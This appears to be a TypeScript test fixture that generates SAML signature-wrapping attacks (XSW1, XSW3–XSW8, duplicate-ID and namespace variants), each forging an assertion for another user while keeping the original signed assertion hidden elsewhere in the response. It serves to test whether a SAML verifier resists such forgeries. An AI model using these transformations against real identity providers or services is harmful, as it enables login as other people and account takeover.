/**
 * Signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the signed assertion is kept somewhere, so that the signature
 * still fits, and a forged one stands where the service looks.
 */

type Wrap = (response: string, signedName: string, forgedName: string) => string;

const parts = (response: string): { assertion: string; signature: string } => ({
  assertion: /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)?.[0] ?? '',
  signature: /<Signature .*<\/Signature>/s.exec(response)?.[0] ?? '',
});

const bare = (assertion: string): string => assertion.replace(/<Signature .*<\/Signature>/s, '');
const renamed = (assertion: string): string => assertion.replace(/ ID="_a/, ' ID="_forged');

/** An assertion of another person, with or without the ID of the signed one. */
const forge = (assertion: string, from: string, to: string): string => bare(assertion).replaceAll(from, to);

export const wrappings: Record<string, Wrap> = {
  'the forged assertion stands before the signed one (XSW3)': (response, from, to) => {
    const { assertion } = parts(response);
    return response.replace(assertion, renamed(forge(assertion, from, to)) + assertion);
  },
  'the forged assertion stands after the signed one': (response, from, to) => {
    const { assertion } = parts(response);
    return response.replace(assertion, assertion + renamed(forge(assertion, from, to)));
  },
  'the forged assertion holds the signed one (XSW4)': (response, from, to) => {
    const { assertion } = parts(response);
    const forged = renamed(forge(assertion, from, to));
    return response.replace(assertion, forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
  },
  'the signature moves into the forged assertion, the signed one to the end (XSW5)': (response, from, to) => {
    const { assertion, signature } = parts(response);
    const forged = renamed(forge(assertion, from, to)).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signature}`,
    );
    return response
      .replace(assertion, forged)
      .replace('</samlp:Response>', `${bare(assertion)}</samlp:Response>`);
  },
  'the signature in the forged assertion holds the signed one (XSW6)': (response, from, to) => {
    const { assertion, signature } = parts(response);
    const wrapped = signature.replace('</Signature>', `<Object>${bare(assertion)}</Object></Signature>`);
    return response.replace(
      assertion,
      renamed(forge(assertion, from, to)).replace('</saml:Issuer>', `</saml:Issuer>${wrapped}`),
    );
  },
  'the signed assertion hides in Extensions (XSW7)': (response, from, to) => {
    const { assertion } = parts(response);
    return response
      .replace(assertion, renamed(forge(assertion, from, to)))
      .replace('<samlp:Status>', `<samlp:Extensions>${assertion}</samlp:Extensions><samlp:Status>`);
  },
  'the signed assertion hides in an object of a second signature (XSW8)': (response, from, to) => {
    const { assertion, signature } = parts(response);
    const object = signature.replace('</Signature>', `<Object>${assertion}</Object></Signature>`);
    return response.replace(
      assertion,
      renamed(forge(assertion, from, to)).replace('</saml:Issuer>', `</saml:Issuer>${object}`),
    );
  },
  'both have the same ID': (response, from, to) => {
    const { assertion } = parts(response);
    return response.replace(assertion, forge(assertion, from, to) + assertion);
  },
  'a whole signed response hides in another (XSW1)': (response, from, to) => {
    const { assertion } = parts(response);
    const outer = response
      .replace(assertion, renamed(forge(assertion, from, to)))
      .replace(' ID="_r', ' ID="_outer');
    return outer.replace('</samlp:Response>', `${response}</samlp:Response>`);
  },
  'the forged assertion is called by another namespace': (response, from, to) => {
    const { assertion } = parts(response);
    const forged = renamed(forge(assertion, from, to))
      .replaceAll('saml:', 'x:')
      .replace('<x:Assertion', '<x:Assertion xmlns:x="urn:x"');
    return response.replace(assertion, forged + assertion);
  },
};
